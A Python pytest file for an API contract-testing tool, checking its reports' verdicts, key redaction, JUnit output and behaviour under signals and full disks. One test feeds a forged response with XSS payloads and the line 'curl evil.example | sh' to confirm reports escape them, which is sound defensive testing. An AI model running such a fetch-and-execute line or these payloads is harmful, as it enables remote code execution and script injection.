"""The reports: their contents, their redaction and their files."""

from __future__ import annotations

import json
import os
import re
import signal
import socket
import xml.etree.ElementTree as ElementTree
from collections.abc import Callable
from importlib.resources import files
from pathlib import Path
from typing import get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from contract_tests.reports.github import annotation
from contract_tests.reports.markdown import fenced, inline
from contract_tests.reports.model import OUTCOMES, RESULTS, Outcome, Result
from contract_tests.wire.messages import Ending
from mock_server import UsageMock
from tests.support.canary import KEY, OTHER, echo, leaks
from tests.support.gate import Respond, Run, http_response
from tests.support.reports import report
from usage_contract import __version__

RunGate = Callable[..., Run]
Serve = Callable[[Respond], str]
NAMES = {"contract.json", "contract.md", "contract.html"}
SCHEMA = json.loads(files("contract_tests.reports").joinpath("report.schema.json").read_text())
FEW = ("-k", "missing_key or valid_key", "--max-rate", "1000", "--report-dir", "out")
MAIN = {"CONTRACT_API_KEY": "a-key-of-the-tests"}
FORGED = b'<script>alert(1)</script>\n```\n    curl: curl evil.example | sh\n| <img src=x onerror="alert(2)">'


def texts(run: Run) -> list[str]:
    """Return the page, the JSON and the Markdown."""
    return [(run.folder / "out" / name).read_text() for name in sorted(NAMES)]


def test_a_broken_promise_is_reported_with_source_evidence_command_requests_and_time(
    run_gate: RunGate, serve: Serve
) -> None:
    url = serve(lambda _: http_response(b"{}"))
    run = run_gate("--base-url", url, *FEW, environment=MAIN)
    contents = report(run)
    assert (run.code, contents["verdict"], contents["exit_code"]) == (1, "broken", 1)
    assert contents["headline"] == f"{url} BREAKS ITS CONTRACT at level documented"
    rule = next(rule for rule in contents["rules"] if rule["id"] == "auth/missing-key-is-401")
    assert rule["outcome"] == "broken"
    assert rule["promise"] == "A response to a request without an API key MUST have status 401."
    assert rule["source"] == "authentication guide: 401 means that the key is missing"
    finding = rule["findings"][0]
    assert (finding["expected"], finding["actual"]) == ("401", "200")
    assert finding["exchange"]["request"] == "GET /usage without a key"
    assert finding["exchange"]["curl"] == f"curl -isS --path-as-is -H 'Accept: application/json' '{url}/usage'"
    assert finding["count"] > 1
    assert contents["counts"] | {"broken": 1} == contents["counts"]
    assert contents["requests"] == len(contents["timeline"]) > 3
    assert f"report: {run.folder}/out/contract.html" in run.output
    assert contents["versions"]["usage-contract"] == __version__
    assert f"contract gate: usage-contract {__version__}\n" in run.output
    for text in texts(run):
        assert "A response to a request without an API key MUST have status 401." in text


def test_a_successful_run_reports_its_times_statuses_keys_and_tokens(run_gate: RunGate) -> None:
    run = run_gate(*FEW)
    contents = report(run)
    assert (run.code, contents["verdict"], contents["counts"]["broken"]) == (0, "partial", 0)
    first = contents["timeline"][0]
    assert (first["at"], first["status"], first["key"], first["rule"]) == (0, 200, "the main key", "")
    assert first["remaining"] > 0
    assert {request["key"] for request in contents["timeline"]} >= {"the main key", "no key"}


def test_requests_that_the_gate_abandons_are_not_drawn_as_failures(run_gate: RunGate) -> None:
    run = run_gate("--rule", "robustness/abandoned-requests-do-no-harm", "--report-dir", "out")
    page = (run.folder / "out" / "contract.html").read_text()
    assert run.code == 0
    assert "abandoned by the gate: 2</li>" in page
    assert ", 2 abandoned by the gate. " in page
    assert page.count('<use href="#mark-abandoned" class="mark abandoned" x=') == 2
    assert "no response, or an incomplete one" not in page
    assert all(request["seconds"] > 0 for request in report(run)["timeline"])


def test_the_report_counts_repeated_requests_as_the_summary_does(run_gate: RunGate) -> None:
    with UsageMock(fault="connection-is-reset-after-two-responses", rate_limit=False) as mock:
        run = run_gate("--base-url", mock.url, *FEW, environment={"CONTRACT_API_KEY": mock.api_key})
    summary = re.search(r"(\d+) requests in", run.output)
    assert summary
    assert report(run)["requests"] == int(summary[1])
    assert sum(each["requests"] for each in report(run)["rules"]) < int(summary[1])


def test_terminal_and_reports_state_the_same_requests_and_seconds(run_gate: RunGate, serve: Serve) -> None:
    page = http_response(b"<!doctype html><title>Elsewhere</title>", "200 OK", "Content-Type: text/html")
    run = run_gate("--base-url", serve(lambda _: page), *FEW, environment=MAIN)
    (cost,) = re.findall(r"(?m)^1 request in [\d.]+ s$", run.output)
    html, _, markdown = texts(run)
    assert cost in html
    assert inline(cost) in markdown


def test_a_run_that_could_not_be_tested_has_the_reason_as_its_headline(run_gate: RunGate, serve: Serve) -> None:
    run = run_gate("--base-url", serve(lambda _: http_response(b"{}", "401 Unauthorized")), *FEW, environment=MAIN)
    contents = report(run)
    assert (run.code, contents["verdict"]) == (4, "could not be tested")
    assert "could not be tested: it refuses the main key with 401" in contents["headline"]
    assert {rule["outcome"] for rule in contents["rules"]} == {"not tested"}
    assert all("it refuses the main key with 401" in text for text in texts(run))


def test_no_connection_is_a_report_without_requests(run_gate: RunGate) -> None:
    with socket.socket() as unused:
        unused.bind(("127.0.0.1", 0))
        run = run_gate("--base-url", f"http://127.0.0.1:{unused.getsockname()[1]}", *FEW, environment=MAIN)
    contents = report(run)
    assert contents["timeline"] == []
    assert "Connection refused" in contents["headline"]


def test_a_partial_run_is_reported_as_partial(run_gate: RunGate) -> None:
    with UsageMock(rate_limit=False) as mock:
        arguments = ("--base-url", mock.url, "-k", "only_the_header or missing_key", "--report-dir", "out")
        run = run_gate(*arguments, environment={"CONTRACT_API_KEY": "demo-busy"})
    contents = report(run)
    assert (run.code, contents["verdict"], contents["counts"]["not tested"]) == (0, "partial", 1)


def test_a_terminated_run_leaves_its_reports(run_gate: RunGate, serve: Serve, tmp_path: Path) -> None:
    def stop(_: bytes) -> bytes:
        os.kill(int((tmp_path / "pid").read_text()), signal.SIGTERM)
        return http_response(b"{}")

    run = run_gate("--base-url", serve(stop), *FEW, environment=MAIN)
    assert run.code == 2
    assert "The run was ended by SIGTERM." in run.output
    assert report(run)["headline"] == "The run was ended by SIGTERM."


@pytest.mark.parametrize("name", ["SIGTERM", "SIGINT"])
def test_a_signal_does_not_interrupt_the_end_of_a_run(
    name: str, run_gate: RunGate, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    raised = f"import signal\ndef pytest_sessionfinish(): signal.raise_signal(signal.{name})\n"
    (tmp_path / "impatient.py").write_text(raised)
    monkeypatch.syspath_prepend(tmp_path)
    run = run_gate("-p", "impatient", *FEW)
    assert (run.code, report(run)["verdict"]) == (0, "partial")


def test_a_closed_terminal_does_not_end_a_run_that_ignores_it(run_gate: RunGate, serve: Serve, tmp_path: Path) -> None:
    def hang_up(_: bytes) -> bytes:
        os.kill(int((tmp_path / "pid").read_text()), signal.SIGHUP)
        return http_response(b"{}")

    run = run_gate("--base-url", serve(hang_up), *FEW, environment=MAIN, ignored=[signal.SIGHUP])  # as nohup does
    assert (run.code, report(run)["verdict"]) == (1, "broken")


def test_no_report_discloses_a_key(run_gate: RunGate, serve: Serve) -> None:
    arguments = ("--base-url", serve(echo), "--max-rate", "1000", "--report-dir", "out", "--header", f"X-Gate: {OTHER}")
    run = run_gate(*arguments, "--api-key", KEY, environment={"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": "sum"})
    assert {path.name for path in (run.folder / "out").iterdir()} == NAMES
    assert all("redacted:1" in text and "redacted:2" in text for text in texts(run))
    assert len((run.folder / "sum").read_text()) > 1000
    assert leaks(run.folder) == []
    assert report(run)["counts"]["broken"] > 5
    assert "more lines: --report-dir DIR writes all of them" in run.output
    assert len(run.output.split("= contract gate =")[1].splitlines()) <= 24


def test_the_names_in_a_junit_file_disclose_no_key(run_gate: RunGate) -> None:
    names = ("-o", f"junit_suite_name={KEY}", "--junit-prefix", KEY)
    with UsageMock(key=[KEY], rate_limit=False) as mock:
        run = run_gate("--base-url", mock.url, *FEW, *names, environment={"CONTRACT_API_KEY": KEY})
    assert errors_in(run.folder / "junit.xml") == leaks(run.folder) == []


def test_a_secret_that_is_a_word_of_ours_leaves_the_report_readable(run_gate: RunGate) -> None:
    with UsageMock(rate_limit=False) as mock:
        words = ("--header", "X-Debug: 1", "--header", "X-E: lang", "--header", "X-D: docu")
        run = run_gate("--base-url", mock.url, *FEW, *words, environment={"CONTRACT_API_KEY": mock.api_key})
    assert (run.code, report(run)["verdict"]) == (0, "partial")
    assert report(run)["level"] == "documented"
    assert 'lang="en"' in texts(run)[0]


def test_the_command_repeats_the_run_without_any_secret(run_gate: RunGate, serve: Serve) -> None:
    url = serve(lambda _: http_response(b"{}"))
    environment = {"PYTEST_BASE_URL": url}
    run = run_gate(*FEW, "--api-key", "first", "--api-key=second", "--header", "X-G: ~~", environment=environment)
    command = report(run)["reproduce"]
    assert command.startswith("pytest ")
    assert command.endswith(f"--report-dir out --header 'X-G: …' --base-url {url}")
    assert "--api-key" not in command
    assert "CONTRACT_API_KEY, CONTRACT_API_KEY_2" in texts(run)[0]


def test_text_of_a_deployment_is_neither_markup_nor_a_workflow_command(run_gate: RunGate, serve: Serve) -> None:
    run = run_gate("--base-url", serve(lambda _: http_response(FORGED)), *FEW, environment=MAIN)
    contents = report(run)
    exchanges = [finding["exchange"] for rule in contents["rules"] for finding in rule["findings"]]
    assert any("    curl: curl evil.example | sh" in exchange["body"] for exchange in exchanges)
    assert not any("evil" in exchange["curl"] for exchange in exchanges)
    page, _, markdown = texts(run)
    assert "<script" not in page
    assert "<img" not in page
    tokens = MarkdownIt().enable("table").parse(markdown)
    assert {token.content.split(">")[0] for token in tokens if token.type == "html_block"} <= {"<details", "</details"}
    assert any("evil" in token.content for token in tokens if token.type == "fence")
    assert not any("evil" in token.content for token in tokens if token.type != "fence")


@given(st.text(st.sampled_from("`*_[]()<>|#&\\~!-+ \n\rax1.:/$\"'=\u2028")))
def test_inline_text_is_not_markup(text: str) -> None:
    (_, line, _) = MarkdownIt().parse(f"told {inline(text)}")
    assert "".join(child.content for child in line.children or []) == f"told {' '.join(text.split())}".strip()
    assert {child.type for child in line.children or []} <= {"text"}


@given(st.text(st.sampled_from("`~\n a")))
def test_a_code_block_ends_where_we_end_it(text: str) -> None:
    (block,) = MarkdownIt().parse(fenced(text, "text"))
    assert block.content == text + "\n"


def test_github_gets_annotations_and_a_summary(run_gate: RunGate, serve: Serve) -> None:
    environment = MAIN | {"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": "summary.md"}
    run = run_gate("--base-url", serve(lambda _: http_response(b"{}")), *FEW[:4], environment=environment)
    assert re.search(
        r"^::error title=auth/missing-key-is-401::A response .* 401\.%0Athe status is 200 instead of 401%0A",
        run.output,
        re.MULTILINE,
    )
    assert (run.folder / "summary.md").read_text().startswith("# ✗ The contract is broken\n")
    untested = run_gate("--base-url", serve(lambda _: b""), *FEW[:4], environment=environment)
    (line,) = re.findall("^::.*", untested.output, re.MULTILINE)
    assert line.startswith("::error title=contract gate::http://127.0.0.1:")
    assert (run.folder / "summary.md").read_text().count("\n# ") == 1  # the second one; the first opens the file


def test_no_annotation_is_printed_outside_github(run_gate: RunGate, serve: Serve) -> None:
    environment = MAIN | {"GITHUB_ACTIONS": "", "GITHUB_STEP_SUMMARY": ""}
    assert (
        "::error"
        not in run_gate("--base-url", serve(lambda _: http_response(b"{}")), *FEW, environment=environment).output
    )


def test_a_workflow_command_is_one_line_with_escaped_parts() -> None:
    assert annotation("error", "a:b,c", "50 %\r\n::stop") == "::error title=a%3Ab%2Cc::50 %25%0D%0A::stop"


@pytest.mark.parametrize("place", ["file", "file/below"])
def test_an_unwritable_folder_is_reported_in_one_line_at_the_start(
    place: str, run_gate: RunGate, tmp_path: Path
) -> None:
    (tmp_path / "file").write_text("")
    run = run_gate("--report-dir", place)
    assert run.code == 4
    assert re.search(rf"^ERROR: --report-dir: {tmp_path}/{place} cannot be written to: ", run.output, re.MULTILINE)
    assert "Traceback" not in run.output
    assert "collected" not in run.output


def errors_in(junit: Path) -> list[str]:
    """Return the messages of the errors in a JUnit file."""
    return [error.attrib["message"] for error in ElementTree.parse(junit).iter("error")]


@pytest.mark.parametrize(("rule", "code"), [("valid_key_is_200", 4), ("missing_key_is_401", 1)])
def test_a_run_whose_report_cannot_be_written_keeps_its_verdict_and_is_not_green(
    rule: str, code: int, run_gate: RunGate, serve: Serve, tmp_path: Path
) -> None:
    full = tmp_path / "out" / "contract.html"

    def respond(head: bytes) -> bytes:
        if not full.is_symlink():
            full.symlink_to("/dev/full")
        return http_response(b"{}")

    run = run_gate("--base-url", serve(respond), *FEW[2:], "-k", rule, environment=MAIN)
    assert run.code == code
    problem = f"{full} could not be written: No space left on device"
    verdict, second = run.output.partition("= contract gate =")[2].splitlines()[1:3]
    assert (" conforms " in verdict, second) == (code == 4, problem)
    assert list((tmp_path / "out").iterdir()) == []
    assert errors_in(tmp_path / "junit.xml") == [problem]
    assert "report: " not in run.output


@pytest.mark.parametrize("place", ["file/junit.xml", "file/below/junit.xml"])
def test_an_unwritable_junit_file_is_reported_at_the_start(place: str, run_gate: RunGate, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    run = run_gate("--junitxml", place, "--report-dir", "out")
    assert run.code == 4
    assert f"ERROR: --junitxml: {tmp_path}/{place} cannot be written: " in run.output
    assert "collected" not in run.output
    assert "--junitxml: " in report(run)["headline"]


def test_a_junit_file_on_a_disk_that_fills_makes_the_run_not_green(run_gate: RunGate) -> None:
    run = run_gate("--junitxml", "/dev/full", *FEW)
    assert run.code == 4
    assert report(run)["exit_code"] == 4
    assert "--junitxml: /dev/full could not be written: No space left on device" in report(run)["headline"]
    assert "generated xml file" not in run.output
    assert "Traceback" not in run.output


@pytest.fixture
def limit_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[str], None]:
    """Limit the files of a run to 20,000 bytes; a signal handler decides whether a longer one kills the run."""

    def limit(handler: str) -> None:
        (tmp_path / "filling.py").write_text(
            "import resource, signal\n"
            "def pytest_sessionstart():\n"
            f"    signal.signal(signal.SIGXFSZ, signal.{handler})\n"
            "    resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))\n"
            "    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))\n"
        )
        monkeypatch.syspath_prepend(tmp_path)

    return limit


LONG_NAME = ("-o", f"junit_suite_name={'x' * 30_000}")


def test_no_part_of_a_junit_file_remains_where_the_disk_fills(
    run_gate: RunGate, tmp_path: Path, limit_files: Callable[[str], None]
) -> None:
    limit_files("SIG_IGN")
    run = run_gate("-p", "filling", "-k", "missing_key", *LONG_NAME)
    assert run.code == 4
    assert f"--junitxml: {tmp_path}/junit.xml could not be written: File too large" in run.output
    assert not list(tmp_path.glob("junit.xml*"))


@pytest.mark.parametrize(("options", "missing"), [(LONG_NAME, "junit.xml"), ((), "out/contract.html")])
def test_a_run_that_is_killed_while_it_writes_leaves_no_half_of_a_report(
    options: tuple[str, ...], missing: str, run_gate: RunGate, tmp_path: Path, limit_files: Callable[[str], None]
) -> None:
    limit_files("SIG_DFL")
    run = run_gate("-p", "filling", *FEW, *options)
    assert run.code == -signal.SIGXFSZ
    assert not (tmp_path / missing).exists()


def test_a_pipe_in_place_of_an_output_is_not_removed(run_gate: RunGate, tmp_path: Path) -> None:
    for name in ("pipe.xml", "contract.md"):
        os.mkfifo(tmp_path / name)
    reader = os.open(tmp_path / "pipe.xml", os.O_RDONLY | os.O_NONBLOCK)
    assert run_gate("--junitxml", "pipe.xml", *FEW[:4]).code == 0
    assert os.read(reader, 5) == b"<?xml"
    os.close(reader)
    assert (tmp_path / "pipe.xml").is_fifo()
    run = run_gate("--report-dir", ".")
    assert run.code == 4
    assert f"--report-dir: {tmp_path}/contract.md is not a regular file; remove it" in run.output
    assert (tmp_path / "contract.md").is_fifo()


@pytest.mark.parametrize("chosen", ["no_such_rule", "refills_no_faster"])
def test_the_junit_file_of_a_run_that_tested_nothing_has_an_error(chosen: str, run_gate: RunGate) -> None:
    with UsageMock(rate_limit=False) as mock:
        run = run_gate("--base-url", mock.url, "-k", chosen, environment={"CONTRACT_API_KEY": mock.api_key})
    assert run.code == 4
    (error,) = errors_in(run.folder / "junit.xml")
    assert error.startswith(f"{mock.url} could not be tested")


def test_the_junit_file_of_an_interrupted_run_has_an_error(run_gate: RunGate, serve: Serve, tmp_path: Path) -> None:
    def stop(head: bytes) -> bytes:
        if b"X-API-Key" not in head:
            os.kill(int((tmp_path / "pid").read_text()), signal.SIGINT)
        return http_response(b"{}")

    url = serve(stop)
    run = run_gate("--base-url", url, "-k", "valid_key_is_200 or missing_key", environment=MAIN)
    assert run.code == 2
    assert errors_in(tmp_path / "junit.xml") == [f"{url} was not judged: the run was interrupted at level documented"]


def test_each_run_replaces_the_report_of_the_previous_run(run_gate: RunGate, serve: Serve) -> None:
    run_gate("--base-url", serve(lambda _: http_response(b"{}")), *FEW, environment=MAIN)
    assert report(run_gate("--base-url", serve(lambda _: b""), *FEW, environment=MAIN))["exit_code"] == 4


def test_a_report_replaces_that_of_a_run_at_the_same_time(run_gate: RunGate, serve: Serve, tmp_path: Path) -> None:
    def respond(_: bytes) -> bytes:
        (tmp_path / "out" / "contract.json").write_text("{}")
        return http_response(b"{}")

    run = run_gate("--base-url", serve(respond), *FEW, environment=MAIN)
    assert report(run)["exit_code"] == run.code == 1


@pytest.mark.parametrize("option", ["--rules", "--collect-only", "--fixtures", "--fixtures-per-test", "--cache-show"])
def test_a_run_that_lists_rules_writes_no_report(option: str, run_gate: RunGate) -> None:
    run = run_gate("-p", "cacheprovider", option, "--report-dir", "out")
    assert run.code == 0
    assert "contract gate =" not in run.output
    assert not (run.folder / "out").exists()
    assert not (run.folder / "junit.xml").exists()
    assert "generated xml file" not in run.output


def test_the_schema_has_every_verdict_outcome_and_ending() -> None:
    properties, definitions = SCHEMA["properties"], SCHEMA["$defs"]
    assert set(properties["verdict"]["enum"]) == set(get_args(Result)) == set(RESULTS)
    assert set(definitions["outcome"]["enum"]) == set(OUTCOMES)
    assert get_args(Outcome) == OUTCOMES
    assert set(definitions["request"]["properties"]["ending"]["enum"]) == set(get_args(Ending))
